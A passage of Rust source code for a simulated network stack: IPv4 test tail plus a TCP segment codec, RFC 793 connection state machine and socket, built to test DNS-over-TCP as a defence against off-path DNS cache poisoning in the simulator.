        bytes.splice(IPV4_HEADER_LEN..IPV4_HEADER_LEN, [0u8; 4]); // 4 options bytes
        let total = bytes.len() as u16;
        bytes[2..4].copy_from_slice(&total.to_be_bytes());
        bytes[10] = 0;
        bytes[11] = 0; // re-checksum the mutated header
        let ck = crate::checksum::checksum(&bytes[..24]);
        bytes[10..12].copy_from_slice(&ck.to_be_bytes());
        assert_eq!(Ipv4Packet::decode(&bytes), Err(Ipv4Error::OptionsUnsupported(6)));
    }

    #[test]
    fn link_layer_padding_ignored() {
        let payload = vec![0x11u8; 30];
        let pkt = Ipv4Packet::new(sample_header(), payload.clone());
        let mut bytes = pkt.encode();
        bytes.extend_from_slice(&[0u8; 6]); // Ethernet minimum-frame padding
        let decoded = Ipv4Packet::decode(&bytes).unwrap();
        assert_eq!(decoded.payload, payload);
    }

    #[test]
    fn protocol_numbers() {
        assert_eq!(Protocol::Udp.number(), 17);
        assert_eq!(Protocol::Icmp.number(), 1);
        assert_eq!(Protocol::Tcp.number(), 6);
        assert_eq!(Protocol::from_number(17), Protocol::Udp);
        assert_eq!(Protocol::from_number(99), Protocol::Other(99));
    }

    #[test]
    fn summary_mentions_fragments() {
        let mut h = sample_header();
        h.more_fragments = true;
        let pkt = Ipv4Packet::new(h, vec![0u8; 8]);
        assert!(pkt.summary().contains("frag"));
    }
}
