//! TCP segment wire format and a deterministic connection state machine.
//!
//! The paper's strongest deployable countermeasure is re-querying DNS over
//! TCP (RFC 7766): a TCP answer never travels as a fragmented UDP datagram
//! (defeating FragDNS) and there is no UDP ephemeral port for the SadDNS
//! side channel to recover — the off-path attacker would have to guess a
//! 32-bit sequence number on top of the 4-tuple. This module provides the
//! transport machinery that makes those claims testable in the simulator:
//!
//! * [`TcpSegment`] — RFC 793 header codec with the real pseudo-header
//!   checksum. Unlike UDP there is **no** zero-means-absent checksum rule:
//!   a computed `0x0000` is transmitted as-is and a receiver always
//!   verifies, so a zeroed checksum field is simply a corrupt segment.
//! * [`TcpConnection`] — a deterministic state machine: seeded ISN
//!   generation (drawn from the simulation's ChaCha20 stream), the
//!   three-way handshake, cumulative seq/ack bookkeeping, MSS-based
//!   segmentation sized from the host's path-MTU cache, FIN teardown and
//!   RST handling. The simulated network never reorders or drops TCP
//!   segments of an open connection, so there is no retransmission queue —
//!   every run of a seeded simulation produces byte-identical segment
//!   interleavings.
//! * [`TcpSocket`] — the stream implementation of the object-safe
//!   [`Socket`](crate::transport::Socket) API, multiplexing any number of
//!   connections over one bound local port (client or listener).

use crate::checksum;
use crate::ipv4::{Ipv4Header, Ipv4Packet, Protocol};
use crate::pool;
use crate::stack::StackEvent;
use crate::transport::{Endpoint, FlowStats, SocketEvent, StackIo};
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;
use std::net::Ipv4Addr;

/// Length of a TCP header without options, in bytes.
pub const TCP_HEADER_LEN: usize = 20;

/// The decoded TCP flag bits this workspace models.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct TcpFlags {
    /// No more data from sender (teardown).
    pub fin: bool,
    /// Synchronise sequence numbers (handshake).
    pub syn: bool,
    /// Reset the connection.
    pub rst: bool,
    /// Push buffered data to the application.
    pub psh: bool,
    /// The acknowledgment field is significant.
    pub ack: bool,
}

impl TcpFlags {
    /// A bare SYN (client handshake opener).
    pub fn syn() -> Self {
        TcpFlags { syn: true, ..Default::default() }
    }

    /// SYN|ACK (server handshake reply).
    pub fn syn_ack() -> Self {
        TcpFlags { syn: true, ack: true, ..Default::default() }
    }

    /// A bare ACK.
    pub fn ack() -> Self {
        TcpFlags { ack: true, ..Default::default() }
    }

    /// FIN|ACK (active close).
    pub fn fin_ack() -> Self {
        TcpFlags { fin: true, ack: true, ..Default::default() }
    }

    fn to_byte(self) -> u8 {
        (self.fin as u8) | (self.syn as u8) << 1 | (self.rst as u8) << 2 | (self.psh as u8) << 3 | (self.ack as u8) << 4
    }

    /// Decodes the flag bits of a wire header's 14th byte.
    pub fn from_byte(b: u8) -> Self {
        TcpFlags { fin: b & 0x01 != 0, syn: b & 0x02 != 0, rst: b & 0x04 != 0, psh: b & 0x08 != 0, ack: b & 0x10 != 0 }
    }
}

impl fmt::Display for TcpFlags {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut wrote = false;
        for (set, name) in
            [(self.syn, "SYN"), (self.ack, "ACK"), (self.fin, "FIN"), (self.rst, "RST"), (self.psh, "PSH")]
        {
            if set {
                if wrote {
                    f.write_str("|")?;
                }
                f.write_str(name)?;
                wrote = true;
            }
        }
        if !wrote {
            f.write_str("-")?;
        }
        Ok(())
    }
}

/// A full TCP segment together with the IPv4 addresses needed for the
/// pseudo-header checksum.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TcpSegment {
    /// IPv4 source address.
    pub src: Ipv4Addr,
    /// IPv4 destination address.
    pub dst: Ipv4Addr,
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Sequence number of the first payload byte (or of the SYN/FIN).
    pub seq: u32,
    /// Acknowledgment number (next sequence number expected from the peer).
    pub ack: u32,
    /// Control flags.
    pub flags: TcpFlags,
    /// Advertised receive window.
    pub window: u16,
    /// Stream payload bytes.
    pub payload: Vec<u8>,
}

impl TcpSegment {
    /// The amount of sequence space this segment consumes (payload plus one
    /// for SYN and one for FIN).
    pub fn seq_len(&self) -> u32 {
        self.payload.len() as u32 + u32::from(self.flags.syn) + u32::from(self.flags.fin)
    }

    /// Computes the checksum over pseudo-header, header and payload.
    ///
    /// RFC 793: the computed value is transmitted verbatim — TCP has **no**
    /// equivalent of UDP's "0x0000 means no checksum, send 0xFFFF instead"
    /// rule, and receivers must always verify.
    pub fn compute_checksum(&self) -> u16 {
        let length = (TCP_HEADER_LEN + self.payload.len()) as u16;
        let mut c = checksum::pseudo_header(self.src, self.dst, Protocol::Tcp.number(), length);
        c.add_bytes(&self.header_bytes(0));
        c.add_bytes(&self.payload);
        c.finish()
    }

    fn header_bytes(&self, checksum: u16) -> [u8; TCP_HEADER_LEN] {
        let mut buf = [0u8; TCP_HEADER_LEN];
        buf[0..2].copy_from_slice(&self.src_port.to_be_bytes());
        buf[2..4].copy_from_slice(&self.dst_port.to_be_bytes());
        buf[4..8].copy_from_slice(&self.seq.to_be_bytes());
        buf[8..12].copy_from_slice(&self.ack.to_be_bytes());
        buf[12] = 0x50; // data offset 5 words, no options
        buf[13] = self.flags.to_byte();
        buf[14..16].copy_from_slice(&self.window.to_be_bytes());
        buf[16..18].copy_from_slice(&checksum.to_be_bytes());
        // urgent pointer stays zero
        buf
    }

    /// Serialises header + payload (the IPv4 payload bytes).
    pub fn encode(&self) -> Vec<u8> {
        let mut out = pool::take(TCP_HEADER_LEN + self.payload.len());
        out.extend_from_slice(&self.header_bytes(self.compute_checksum()));
        out.extend_from_slice(&self.payload);
        out
    }

    /// Wraps the segment in an IPv4 packet. TCP performs path-MTU discovery,
    /// so the Don't Fragment flag is always set.
    pub fn into_packet(self, identification: u16, ttl: u8) -> Ipv4Packet {
        let payload = self.encode();
        let mut header = Ipv4Header::new(self.src, self.dst, Protocol::Tcp, payload.len(), identification, ttl);
        header.dont_fragment = true;
        pool::give(self.payload);
        Ipv4Packet::new(header, payload)
    }

    /// Parses a TCP segment out of an IPv4 packet, always verifying the
    /// checksum (a zeroed checksum field is a verification failure, not an
    /// opt-out as in UDP).
    pub fn from_packet(pkt: &Ipv4Packet) -> Result<Self, TcpError> {
        if pkt.header.protocol != Protocol::Tcp {
            return Err(TcpError::NotTcp);
        }
        if pkt.header.is_fragment() {
            return Err(TcpError::IsFragment);
        }
        let buf = &pkt.payload;
        if buf.len() < TCP_HEADER_LEN {
            return Err(TcpError::Truncated);
        }
        if buf.len() > usize::from(u16::MAX) {
            // Regression (fuzz target tcp_segment): the pseudo-header
            // length is 16-bit; a larger buffer used to be checksummed
            // against a silently truncated length instead of rejected.
            return Err(TcpError::Oversized);
        }
        let data_offset = usize::from(buf[12] >> 4) * 4;
        if data_offset < TCP_HEADER_LEN {
            return Err(TcpError::BadDataOffset);
        }
        if buf.len() < data_offset {
            return Err(TcpError::Truncated);
        }
        let mut c = checksum::pseudo_header(pkt.header.src, pkt.header.dst, Protocol::Tcp.number(), buf.len() as u16);
        c.add_bytes(buf);
        if c.folded() != 0xffff {
            return Err(TcpError::BadChecksum);
        }
        Ok(TcpSegment {
            src: pkt.header.src,
            dst: pkt.header.dst,
            src_port: u16::from_be_bytes([buf[0], buf[1]]),
            dst_port: u16::from_be_bytes([buf[2], buf[3]]),
            seq: u32::from_be_bytes([buf[4], buf[5], buf[6], buf[7]]),
            ack: u32::from_be_bytes([buf[8], buf[9], buf[10], buf[11]]),
            flags: TcpFlags::from_byte(buf[13]),
            window: u16::from_be_bytes([buf[14], buf[15]]),
            payload: buf[data_offset..].to_vec(),
        })
    }

    /// One-line summary used in traces and tests.
    pub fn summary(&self) -> String {
        format!(
            "TCP {}:{} -> {}:{} [{}] seq={} ack={} len={}",
            self.src,
            self.src_port,
            self.dst,
            self.dst_port,
            self.flags,
            self.seq,
            self.ack,
            self.payload.len()
        )
    }
}

/// Builds the RST a host sends in response to a segment that reached a
/// closed port or a nonexistent connection (RFC 793 §3.4). Returns `None`
/// for incoming RSTs (never reset a reset).
pub fn rst_reply(seg: &TcpSegment) -> Option<TcpSegment> {
    if seg.flags.rst {
        return None;
    }
    let (seq, ack, flags) = if seg.flags.ack {
        (seg.ack, 0, TcpFlags { rst: true, ..Default::default() })
    } else {
        (0, seg.seq.wrapping_add(seg.seq_len()), TcpFlags { rst: true, ack: true, ..Default::default() })
    };
    Some(TcpSegment {
        src: seg.dst,
        dst: seg.src,
        src_port: seg.dst_port,
        dst_port: seg.src_port,
        seq,
        ack,
        flags,
        window: 0,
        payload: Vec::new(),
    })
}

/// Errors returned by the TCP codec.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TcpError {
    /// The buffer is shorter than a TCP header.
    Truncated,
    /// The IPv4 packet does not carry protocol 6.
    NotTcp,
    /// The packet is an unreassembled fragment.
    IsFragment,
    /// The data offset field is smaller than 5 words.
    BadDataOffset,
    /// The checksum does not verify (including a zeroed checksum field —
    /// TCP has no "checksum absent" escape hatch).
    BadChecksum,
    /// The segment exceeds what the 16-bit pseudo-header length can frame.
    Oversized,
}

impl fmt::Display for TcpError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TcpError::Truncated => write!(f, "truncated TCP segment"),
            TcpError::NotTcp => write!(f, "not a TCP packet"),
            TcpError::IsFragment => write!(f, "packet is an IP fragment"),
            TcpError::BadDataOffset => write!(f, "bad TCP data offset"),
            TcpError::BadChecksum => write!(f, "bad TCP checksum"),
            TcpError::Oversized => write!(f, "TCP segment longer than 65535 bytes"),
        }
    }
}

impl std::error::Error for TcpError {}

/// Connection states of the RFC 793 state machine (LISTEN is a property of
/// the [`TcpSocket`]; TIME_WAIT collapses straight to closed because the
/// simulated network cannot deliver old duplicates).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum TcpState {
    /// SYN sent, waiting for SYN|ACK.
    SynSent,
    /// SYN received and SYN|ACK sent, waiting for the final ACK.
    SynReceived,
    /// Handshake complete; data flows.
    Established,
    /// We sent FIN, waiting for it to be acknowledged.
    FinWait1,
    /// Our FIN is acknowledged, waiting for the peer's FIN.
    FinWait2,
    /// Peer sent FIN; we may still send data until the application closes.
    CloseWait,
    /// Both sides sent FIN simultaneously; waiting for the peer's ACK.
    Closing,
    /// We sent FIN after the peer's; waiting for the final ACK.
    LastAck,
    /// Fully closed.
    Closed,
}

impl TcpState {
    /// Short human-readable name.
    pub fn name(&self) -> &'static str {
        match self {
            TcpState::SynSent => "syn-sent",
            TcpState::SynReceived => "syn-received",
            TcpState::Established => "established",
            TcpState::FinWait1 => "fin-wait-1",
            TcpState::FinWait2 => "fin-wait-2",
            TcpState::CloseWait => "close-wait",
            TcpState::Closing => "closing",
            TcpState::LastAck => "last-ack",
            TcpState::Closed => "closed",
        }
    }
}

/// `a >= b` in 32-bit sequence space.
fn seq_ge(a: u32, b: u32) -> bool {
    a.wrapping_sub(b) as i32 >= 0
}

/// States in which a connection can still carry (or queue) new application
/// payloads. Once either side has sent its FIN the connection is winding
/// down and new exchanges need a fresh one.
fn usable_for_send(state: TcpState) -> bool {
    matches!(state, TcpState::SynSent | TcpState::SynReceived | TcpState::Established | TcpState::CloseWait)
}

/// What one incoming segment did to a connection.
#[derive(Debug, Default)]
pub struct TcpReaction {
    /// Segments to transmit in response (ACKs, handshake steps, flushed data).
    pub replies: Vec<TcpSegment>,
    /// Events for the application layer.
    pub events: Vec<SocketEvent>,
    /// The connection reached `Closed` and can be dropped.
    pub done: bool,
}

/// One TCP connection's deterministic state.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TcpConnection {
    /// Local endpoint (for hosts answering hijacked traffic this may be an
    /// address the host does not own — source spoofing at the stream layer).
    pub local: Endpoint,
    /// Remote endpoint.
    pub peer: Endpoint,
    /// Current state.
    pub state: TcpState,
    /// Maximum segment size used when segmenting application payloads,
    /// derived from the host's path MTU towards the peer at connect time.
    pub mss: u16,
    /// Application bytes sent on this connection.
    pub bytes_sent: u64,
    /// Application bytes received on this connection.
    pub bytes_received: u64,
    snd_nxt: u32,
    snd_una: u32,
    rcv_nxt: u32,
    fin_seq: Option<u32>,
    pending: Vec<u8>,
}

impl TcpConnection {
    fn new(local: Endpoint, peer: Endpoint, state: TcpState, isn: u32, mss: u16) -> Self {
        TcpConnection {
            local,
            peer,
            state,
            mss: mss.max(1),
            bytes_sent: 0,
            bytes_received: 0,
            snd_nxt: isn,
            snd_una: isn,
            rcv_nxt: 0,
            fin_seq: None,
            pending: Vec::new(),
        }
    }

    /// Opens a client connection: returns the connection in `SynSent` plus
    /// the SYN to transmit. `isn` is the seeded initial sequence number.
    pub fn client(local: Endpoint, peer: Endpoint, isn: u32, mss: u16) -> (Self, TcpSegment) {
        let mut conn = Self::new(local, peer, TcpState::SynSent, isn, mss);
        let syn = conn.segment(TcpFlags::syn(), isn, Vec::new());
        conn.snd_nxt = isn.wrapping_add(1);
        (conn, syn)
    }

    /// Accepts an incoming SYN on a listening socket: returns the connection
    /// in `SynReceived` plus the SYN|ACK to transmit.
    pub fn server(local: Endpoint, peer: Endpoint, isn: u32, mss: u16, syn: &TcpSegment) -> (Self, TcpSegment) {
        let mut conn = Self::new(local, peer, TcpState::SynReceived, isn, mss);
        conn.rcv_nxt = syn.seq.wrapping_add(1);
        let syn_ack = conn.segment(TcpFlags::syn_ack(), isn, Vec::new());
        conn.snd_nxt = isn.wrapping_add(1);
        (conn, syn_ack)
    }

    /// The next sequence number this side would send (tests and probes).
    pub fn snd_nxt(&self) -> u32 {
        self.snd_nxt
    }

    /// The next sequence number expected from the peer.
    pub fn rcv_nxt(&self) -> u32 {
        self.rcv_nxt
    }

    fn segment(&self, flags: TcpFlags, seq: u32, payload: Vec<u8>) -> TcpSegment {
        TcpSegment {
            src: self.local.addr,
            dst: self.peer.addr,
            src_port: self.local.port,
            dst_port: self.peer.port,
            seq,
            ack: self.rcv_nxt,
            flags,
            window: u16::MAX,
            payload,
        }
    }

    fn bare_ack(&self) -> TcpSegment {
        self.segment(TcpFlags::ack(), self.snd_nxt, Vec::new())
    }

    /// Queues or transmits `payload`: before the handshake completes the
    /// bytes are buffered (flushed with the handshake ACK); afterwards they
    /// are segmented to the connection's MSS, PSH set on the final segment.
    pub fn send(&mut self, payload: &[u8]) -> Vec<TcpSegment> {
        if payload.is_empty() {
            return Vec::new();
        }
        match self.state {
            TcpState::SynSent | TcpState::SynReceived => {
                self.pending.extend_from_slice(payload);
                Vec::new()
            }
            TcpState::Established | TcpState::CloseWait => {
                let chunks: Vec<&[u8]> = payload.chunks(usize::from(self.mss)).collect();
                let last = chunks.len() - 1;
                let mut out = Vec::with_capacity(chunks.len());
                for (i, chunk) in chunks.into_iter().enumerate() {
                    let flags = TcpFlags { ack: true, psh: i == last, ..Default::default() };
                    let seg = self.segment(flags, self.snd_nxt, chunk.to_vec());
                    self.snd_nxt = self.snd_nxt.wrapping_add(chunk.len() as u32);
                    self.bytes_sent += chunk.len() as u64;
                    out.push(seg);
                }
                out
            }
            // Closing or closed: the application can no longer send.
            _ => Vec::new(),
        }
    }

    /// Aborts the connection: emits a RST (unless never opened) and closes.
    pub fn abort(&mut self) -> Option<TcpSegment> {
        if self.state == TcpState::Closed {
            return None;
        }
        let rst = self.segment(TcpFlags { rst: true, ack: true, ..Default::default() }, self.snd_nxt, Vec::new());
        self.state = TcpState::Closed;
        Some(rst)
    }

    /// Actively closes the sending direction (FIN), if the state allows it.
    pub fn close(&mut self) -> Option<TcpSegment> {
        let next_state = match self.state {
            TcpState::Established | TcpState::SynReceived => TcpState::FinWait1,
            TcpState::CloseWait => TcpState::LastAck,
            TcpState::SynSent => {
                self.state = TcpState::Closed;
                return None;
            }
            _ => return None,
        };
        let fin = self.segment(TcpFlags::fin_ack(), self.snd_nxt, Vec::new());
        self.fin_seq = Some(self.snd_nxt);
        self.snd_nxt = self.snd_nxt.wrapping_add(1);
        self.state = next_state;
        Some(fin)
    }

    /// Feeds one incoming segment through the state machine.
    ///
    /// Segments whose sequence number does not match `rcv_nxt` (out-of-order
    /// data, or an off-path forgery that guessed the 4-tuple but not the
    /// sequence number) are dropped and answered with a duplicate ACK.
    pub fn on_segment(&mut self, seg: &TcpSegment) -> TcpReaction {
        let mut r = TcpReaction::default();
        if seg.flags.rst {
            // RFC 793/5961: a RST is honoured only when it is provably in
            // sequence — in SYN-SENT it must acknowledge our SYN, elsewhere
            // its sequence number must be exactly the next expected byte. A
            // blind off-path reset that guessed only the (public) 4-tuple
            // still has to hit the 32-bit sequence number.
            let acceptable = match self.state {
                TcpState::SynSent => seg.flags.ack && seg.ack == self.snd_nxt,
                TcpState::Closed => false,
                _ => seg.seq == self.rcv_nxt,
            };
            if !acceptable {
                return r;
            }
            r.events.push(SocketEvent::Reset { peer: self.peer, local: self.local });
            self.state = TcpState::Closed;
            r.done = true;
            return r;
        }
        match self.state {
            TcpState::SynSent => {
                if seg.flags.syn && seg.flags.ack && seg.ack == self.snd_nxt {
                    self.rcv_nxt = seg.seq.wrapping_add(1);
                    self.snd_una = seg.ack;
                    self.state = TcpState::Established;
                    r.events.push(SocketEvent::Connected { peer: self.peer, local: self.local });
                    if self.pending.is_empty() {
                        r.replies.push(self.bare_ack());
                    } else {
                        // The handshake ACK rides on the first data segment.
                        let queued = std::mem::take(&mut self.pending);
                        r.replies.extend(self.send(&queued));
                    }
                }
                return r;
            }
            TcpState::SynReceived => {
                if seg.flags.ack && seg.ack == self.snd_nxt {
                    self.snd_una = seg.ack;
                    self.state = TcpState::Established;
                    r.events.push(SocketEvent::Connected { peer: self.peer, local: self.local });
                    if !self.pending.is_empty() {
                        let queued = std::mem::take(&mut self.pending);
                        r.replies.extend(self.send(&queued));
                    }
                    // Fall through: the handshake ACK may carry data or FIN.
                } else {
                    return r;
                }
            }
            TcpState::Closed => return r,
            _ => {}
        }

        // Cumulative acknowledgment bookkeeping.
        if seg.flags.ack && seq_ge(seg.ack, self.snd_una) && seq_ge(self.snd_nxt, seg.ack) {
            self.snd_una = seg.ack;
            if self.fin_seq.is_some_and(|f| seg.ack == f.wrapping_add(1)) {
                match self.state {
                    TcpState::FinWait1 => self.state = TcpState::FinWait2,
                    TcpState::Closing | TcpState::LastAck => {
                        self.state = TcpState::Closed;
                        r.done = true;
                    }
                    _ => {}
                }
            }
        }

        // In-order payload delivery.
        if !seg.payload.is_empty() {
            let receiving = matches!(self.state, TcpState::Established | TcpState::FinWait1 | TcpState::FinWait2);
            if receiving && seg.seq == self.rcv_nxt {
                self.rcv_nxt = self.rcv_nxt.wrapping_add(seg.payload.len() as u32);
                self.bytes_received += seg.payload.len() as u64;
                r.events.push(SocketEvent::Data { peer: self.peer, local: self.local, payload: seg.payload.clone() });
                r.replies.push(self.bare_ack());
            } else {
                r.replies.push(self.bare_ack());
                return r;
            }
        }

        // Peer FIN (only honoured in order).
        if seg.flags.fin && seg.seq.wrapping_add(seg.payload.len() as u32) == self.rcv_nxt {
            self.rcv_nxt = self.rcv_nxt.wrapping_add(1);
            match self.state {
                TcpState::Established => {
                    self.state = TcpState::CloseWait;
                    r.events.push(SocketEvent::PeerClosed { peer: self.peer, local: self.local });
                }
                TcpState::FinWait1 => {
                    // Simultaneous close: our FIN is still unacknowledged.
                    self.state = TcpState::Closing;
                    r.events.push(SocketEvent::PeerClosed { peer: self.peer, local: self.local });
                }
                TcpState::FinWait2 => {
                    // TIME_WAIT collapses: the lossless simulated network
                    // cannot deliver old duplicates.
                    self.state = TcpState::Closed;
                    r.events.push(SocketEvent::PeerClosed { peer: self.peer, local: self.local });
                    r.done = true;
                }
                _ => {}
            }
            r.replies.push(self.bare_ack());
        }
        r
    }
}

/// A TCP implementation of the object-safe [`Socket`](crate::transport::Socket)
/// API: one bound local port, any number of connections keyed by
/// `(peer, local)` endpoint pair (the local address varies when a hijacker
/// terminates connections addressed to the host it impersonates).
#[derive(Debug)]
pub struct TcpSocket {
    port: u16,
    listening: bool,
    conns: BTreeMap<(Endpoint, Endpoint), TcpConnection>,
}

impl TcpSocket {
    /// A client socket: outgoing connections only, incoming SYNs are reset.
    pub fn client(port: u16) -> Self {
        TcpSocket { port, listening: false, conns: BTreeMap::new() }
    }

    /// A listening socket: incoming SYNs create server connections.
    pub fn listener(port: u16) -> Self {
        TcpSocket { port, listening: true, conns: BTreeMap::new() }
    }

    /// The connection towards `peer`, if any (first match over local addresses).
    pub fn connection(&self, peer: Endpoint) -> Option<&TcpConnection> {
        self.conns.iter().find(|((p, _), _)| *p == peer).map(|(_, c)| c)
    }

    /// All live connections.
    pub fn connections(&self) -> impl Iterator<Item = &TcpConnection> {
        self.conns.values()
    }

    /// Feeds one TCP segment addressed to this socket's port.
    pub fn handle_segment(&mut self, io: &mut StackIo<'_>, seg: &TcpSegment) -> Vec<SocketEvent> {
        if seg.dst_port != self.port {
            return Vec::new();
        }
        let peer = Endpoint::new(seg.src, seg.src_port);
        let local = Endpoint::new(seg.dst, seg.dst_port);
        let key = (peer, local);
        // A fresh SYN arriving over a connection that is already winding
        // down supersedes it (the peer reused the 4-tuple for a new
        // exchange, RFC 1122 §4.2.2.13): accept the new handshake instead
        // of feeding the SYN to the dying state machine.
        if self.listening
            && seg.flags.syn
            && !seg.flags.ack
            && self.conns.get(&key).is_some_and(|c| !usable_for_send(c.state))
        {
            self.conns.remove(&key);
        }
        if let Some(conn) = self.conns.get_mut(&key) {
            let reaction = conn.on_segment(seg);
            for reply in reaction.replies {
                io.send_tcp(reply);
            }
            if reaction.done {
                self.conns.remove(&key);
            }
            reaction.events
        } else if self.listening && seg.flags.syn && !seg.flags.ack {
            let isn: u32 = io.rng.gen();
            let mss = io.stack.tcp_mss_for(peer.addr, io.now);
            let (conn, syn_ack) = TcpConnection::server(local, peer, isn, mss, seg);
            io.send_tcp(syn_ack);
            self.conns.insert(key, conn);
            Vec::new()
        } else {
            // Open port but no such connection (or a client socket receiving
            // an unsolicited SYN): reset.
            if let Some(rst) = rst_reply(seg) {
                io.send_tcp(rst);
            }
            Vec::new()
        }
    }

    /// Sends `payload` to `peer` from an explicit local endpoint, opening the
    /// connection (handshake first) if none exists. This is the spoofing
    /// entry point a hijacker uses to answer connections addressed to the
    /// host it impersonates; ordinary hosts use
    /// [`Socket::send_to`](crate::transport::Socket::send_to).
    pub fn send_from(&mut self, io: &mut StackIo<'_>, local: Endpoint, peer: Endpoint, payload: &[u8]) {
        let key = (peer, local);
        // A connection already winding down (we or the peer sent FIN) can
        // no longer carry new payloads — dropping the bytes into its queue
        // would lose them silently. Open a fresh connection instead; the
        // old teardown completes (or is reset) independently.
        if self.conns.get(&key).is_some_and(|c| !usable_for_send(c.state)) {
            self.conns.remove(&key);
        }
        let conn = match self.conns.entry(key) {
            std::collections::btree_map::Entry::Occupied(e) => e.into_mut(),
            std::collections::btree_map::Entry::Vacant(e) => {
                let isn: u32 = io.rng.gen();
                let mss = io.stack.tcp_mss_for(peer.addr, io.now);
                let (conn, syn) = TcpConnection::client(local, peer, isn, mss);
                io.send_tcp(syn);
                e.insert(conn)
            }
        };
        for seg in conn.send(payload) {
            io.send_tcp(seg);
        }
    }
}

impl crate::transport::Socket for TcpSocket {
    fn protocol(&self) -> Protocol {
        Protocol::Tcp
    }

    fn local_port(&self) -> u16 {
        self.port
    }

    fn send_to(&mut self, io: &mut StackIo<'_>, peer: Endpoint, payload: &[u8]) {
        let local = Endpoint::new(io.stack.primary_addr(), self.port);
        self.send_from(io, local, peer, payload);
    }

    fn handle(&mut self, io: &mut StackIo<'_>, event: &StackEvent) -> Vec<SocketEvent> {
        match event {
            StackEvent::Tcp(seg) => self.handle_segment(io, seg),
            _ => Vec::new(),
        }
    }

    fn close_peer(&mut self, io: &mut StackIo<'_>, peer: Endpoint) {
        let keys: Vec<(Endpoint, Endpoint)> = self.conns.keys().filter(|(p, _)| *p == peer).copied().collect();
        for key in keys {
            let remove = {
                let conn = self.conns.get_mut(&key).expect("key just listed");
                if let Some(fin) = conn.close() {
                    io.send_tcp(fin);
                }
                conn.state == TcpState::Closed
            };
            if remove {
                self.conns.remove(&key);
            }
        }
    }

    fn abort_peer(&mut self, io: &mut StackIo<'_>, peer: Endpoint) {
        let keys: Vec<(Endpoint, Endpoint)> = self.conns.keys().filter(|(p, _)| *p == peer).copied().collect();
        for key in keys {
            if let Some(mut conn) = self.conns.remove(&key) {
                if let Some(rst) = conn.abort() {
                    io.send_tcp(rst);
                }
            }
        }
    }

    fn flows(&self) -> Vec<FlowStats> {
        self.conns
            .values()
            .map(|c| FlowStats {
                protocol: Protocol::Tcp,
                local: c.local,
                peer: c.peer,
                state: c.state.name(),
                bytes_sent: c.bytes_sent,
                bytes_received: c.bytes_received,
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);

    fn seg(payload: &[u8]) -> TcpSegment {
        TcpSegment {
            src: A,
            dst: B,
            src_port: 40000,
            dst_port: 53,
            seq: 0x01020304,
            ack: 0xa0b0c0d0,
            flags: TcpFlags { ack: true, psh: true, ..Default::default() },
            window: 512,
            payload: payload.to_vec(),
        }
    }

    #[test]
    fn roundtrip_through_packet() {
        let s = seg(b"dns over tcp");
        let pkt = s.clone().into_packet(7, 64);
        assert!(pkt.header.dont_fragment, "TCP packets carry DF");
        assert_eq!(TcpSegment::from_packet(&pkt).unwrap(), s);
    }

    #[test]
    fn checksum_detects_tampering() {
        let s = seg(b"genuine");
        let mut pkt = s.into_packet(7, 64);
        pkt.payload[TCP_HEADER_LEN + 2] ^= 0x40;
        assert_eq!(TcpSegment::from_packet(&pkt), Err(TcpError::BadChecksum));
    }

    #[test]
    fn zeroed_checksum_is_rejected_unlike_udp() {
        let s = seg(b"no checksum escape hatch");
        let mut pkt = s.into_packet(7, 64);
        // Zero the checksum field (bytes 16..18 of the TCP header).
        pkt.payload[16] = 0;
        pkt.payload[17] = 0;
        assert_eq!(TcpSegment::from_packet(&pkt), Err(TcpError::BadChecksum));
    }

    #[test]
    fn hand_computed_pseudo_header_vector() {
        // 20-byte header, no payload: 192.0.2.1:1000 -> 198.51.100.2:53,
        // seq 1, ack 0, SYN, window 65535. Folding the pseudo-header
        // (protocol 6, TCP length 20) and header words by hand:
        //   c000+0201+c633+6402+0006+0014  (pseudo)
        // + 03e8+0035+0000+0001+0000+0000+5002+ffff+0000+0000 = 0x3406f
        // folded: 0x3406f -> 0x4072, checksum = !0x4072 = 0xbf8d.
        let s = TcpSegment {
            src: "192.0.2.1".parse().unwrap(),
            dst: "198.51.100.2".parse().unwrap(),
            src_port: 1000,
            dst_port: 53,
            seq: 1,
            ack: 0,
            flags: TcpFlags::syn(),
            window: 0xffff,
            payload: vec![],
        };
        assert_eq!(s.compute_checksum(), 0xbf8d);
    }

    #[test]
    fn oversized_segment_rejected_not_truncated() {
        // Regression (fuzz target tcp_segment): a payload pushing the TCP
        // bytes past 65535 overflows the 16-bit pseudo-header length; it
        // must surface as a typed error, never as a silently truncated
        // length fed to the checksum.
        let s = seg(&vec![0u8; usize::from(u16::MAX)]); // header pushes it past 65535
        let pkt = s.into_packet(7, 64);
        assert_eq!(TcpSegment::from_packet(&pkt), Err(TcpError::Oversized));
    }

    #[test]
    fn bad_data_offset_rejected() {
        let s = seg(b"x");
        let mut pkt = s.into_packet(7, 64);
        pkt.payload[12] = 0x40; // 4 words < minimum 5
        assert_eq!(TcpSegment::from_packet(&pkt), Err(TcpError::BadDataOffset));
    }

    #[test]
    fn fragment_and_wrong_protocol_rejected() {
        let s = seg(b"x");
        let mut pkt = s.clone().into_packet(7, 64);
        pkt.header.more_fragments = true;
        assert_eq!(TcpSegment::from_packet(&pkt), Err(TcpError::IsFragment));
        let mut pkt = s.into_packet(7, 64);
        pkt.header.protocol = Protocol::Udp;
        assert_eq!(TcpSegment::from_packet(&pkt), Err(TcpError::NotTcp));
    }

    fn handshake() -> (TcpConnection, TcpConnection) {
        let client_ep = Endpoint::new(A, 40000);
        let server_ep = Endpoint::new(B, 53);
        let (mut client, syn) = TcpConnection::client(client_ep, server_ep, 1000, 1460);
        let (mut server, syn_ack) = TcpConnection::server(server_ep, client_ep, 9000, 1460, &syn);
        let r = client.on_segment(&syn_ack);
